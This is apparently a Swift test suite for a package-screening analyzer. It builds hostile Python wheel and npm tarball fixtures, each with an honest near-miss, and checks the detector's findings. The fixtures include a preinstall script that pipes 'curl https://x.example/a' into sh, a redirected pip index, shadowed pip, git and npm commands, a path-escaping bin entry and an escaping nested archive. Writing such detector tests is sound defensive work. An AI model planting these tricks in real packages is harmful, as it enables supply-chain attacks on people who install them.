import Screening
import TestSupport
import Testing

@testable import Analyzers

/// A trick of a package's layout or manifests, and an honest package that comes near.
private struct PackageTrick: Sendable, CustomTestStringConvertible {
    let testDescription: String
    let code: String
    let severity: Severity
    let hostile: @Sendable () throws -> Artifact
    let honest: @Sendable () throws -> Artifact

    init(
        _ description: String, _ code: String, _ severity: Severity,
        hostile: @escaping @Sendable () throws -> Artifact, honest: @escaping @Sendable () throws -> Artifact
    ) {
        testDescription = description
        self.code = code
        self.severity = severity
        self.hostile = hostile
        self.honest = honest
    }
}

private func wheel(_ files: [String: String], record: [String] = []) -> @Sendable () throws -> Artifact {
    {
        var wheel = WheelBuilder()
        for (path, text) in files.sorted(by: { $0.key < $1.key }) { wheel.add(path, text) }
        for row in record { wheel.addRow(row) }
        return try wheel.artifact()
    }
}

private func package(_ members: String, _ files: [String: String] = [:]) -> @Sendable () throws -> Artifact {
    {
        try npmTarball(manifest: #"{"name":"acme-box","version":"1.2.3",\#(members)}"#) { tar in
            for (path, text) in files.sorted(by: { $0.key < $1.key }) { tar.addFile("package/\(path)", text) }
        }
    }
}

private let data = "acme_box-1.2.3.data"

private let packageTricks: [PackageTrick] = [
    PackageTrick(
        "pip's settings at the top of an environment", "environment-replaced", .malicious,
        hostile: wheel(["\(data)/data/pip.conf": "[global]\nindex-url = https://x.example/simple\n"]),
        honest: wheel(["\(data)/data/share/acme/pip.conf": "# an example\n"])),
    PackageTrick(
        "the activation of an environment", "environment-replaced", .malicious,
        hostile: wheel(["\(data)/scripts/activate": "id\n"]),
        honest: wheel(["\(data)/scripts/acme-activate": "#!/bin/sh\necho ok\n"])),
    PackageTrick(
        "a script called like a tool", "shadows-command", .suspicious,
        hostile: wheel(["\(data)/scripts/pip": "#!/bin/sh\nexec python3 -m pip \"$@\"\n"]),
        honest: wheel(["\(data)/scripts/acme": "#!/bin/sh\necho ok\n"])),
    PackageTrick(
        "a program unpacked over the environment's", "shadows-command", .suspicious,
        hostile: wheel(["\(data)/data/bin/git": "#!/bin/sh\nid\n"]),
        honest: wheel(["\(data)/data/share/git": "notes\n"])),
    PackageTrick(
        "a window's command called like a tool", "shadows-command", .suspicious,
        hostile: wheel(["acme_box-1.2.3.dist-info/entry_points.txt": "[gui_scripts]\npython = acme_box:main\n"]),
        honest: wheel(["acme_box-1.2.3.dist-info/entry_points.txt": "[gui_scripts]\nacme = acme_box:main\n"])),
    PackageTrick(
        "two rows of RECORD for one file", "record-unreadable", .suspicious,
        hostile: wheel(["acme_box/b.py": "x = 1\n"], record: ["acme_box/b.py,sha256=AAAA,6"]),
        honest: wheel(["acme_box/b.py": "x = 1\n"])),
    PackageTrick(
        "a folder of commands called like tools", "shadows-command", .suspicious,
        hostile: package(#""directories":{"bin":"./tools"}"#, ["tools/npm": "#!/usr/bin/env node\n1\n"]),
        honest: package(#""directories":{"bin":"./tools","lib":"npm"}"#, ["tools/acme": "#!/usr/bin/env node\n1\n"])),
    PackageTrick(
        "a command named by a path", "command-escapes", .malicious,
        hostile: package(#""bin":{"../../../../usr/local/bin/box":"cli.js"}"#, ["cli.js": "1\n"]),
        honest: package(#""bin":{"box..dev":"cli.js"}"#, ["cli.js": "1\n"])),
    PackageTrick(
        "the install script of a bundled package", "script-pipes-download-to-interpreter", .malicious,
        hostile: package(
            #""bundleDependencies":["lid"]"#,
            [
                "node_modules/lid/package.json":
                    #"{"name":"lid","version":"1.0.0","scripts":{"preinstall":"curl https://x.example/a | sh"}}"#
            ]),
        honest: package(
            #""bundleDependencies":["lid"]"#,
            [
                "node_modules/lid/package.json":
                    #"{"name":"lid","version":"1.0.0","scripts":{"test":"curl http://localhost"}}"#
            ])),
    PackageTrick(
        "a member given twice, once with escapes", "manifest-ambiguous", .suspicious,
        hostile: package(#""scripts":{"test":"a"},"scr\u0069pts":{"postinstall":"node a.js"}"#),
        honest: package(#""scripts":{"test":"a"},"config":{"scripts":{"test":"b"}}"#)),
    PackageTrick(
        "a nested archive that unpacks elsewhere", "nested-escapes", .suspicious,
        hostile: { try npmTarball { $0.add(.init("package/assets/a.tar", content: escapingTar())) } },
        honest: { try npmTarball { $0.add(.init("package/assets/a.tar", content: escapingTar("lib/../a.txt"))) } }),
]

@Suite("Tricks of a package's layout and manifests")
struct PackageTrickTests {
    @Test("are found, and honest packages that come near are clean", arguments: packageTricks.indices)
    func found(_ index: Int) throws {
        let trick = packageTricks[index]
        let found = try trick.hostile().report().findings
        let finding = found.first { $0.finding.evidence?.split(separator: "@").first.map(String.init) == trick.code }
        #expect(finding?.finding.severity == trick.severity, "\(trick.testDescription): \(found.map(\.finding))")
        let honest = try trick.honest().report()
        let held = honest.findings.filter { $0.finding.severity != .info }
        #expect(honest.verdict == .clean, "\(trick.testDescription): \(held.map(\.finding))")
    }
}
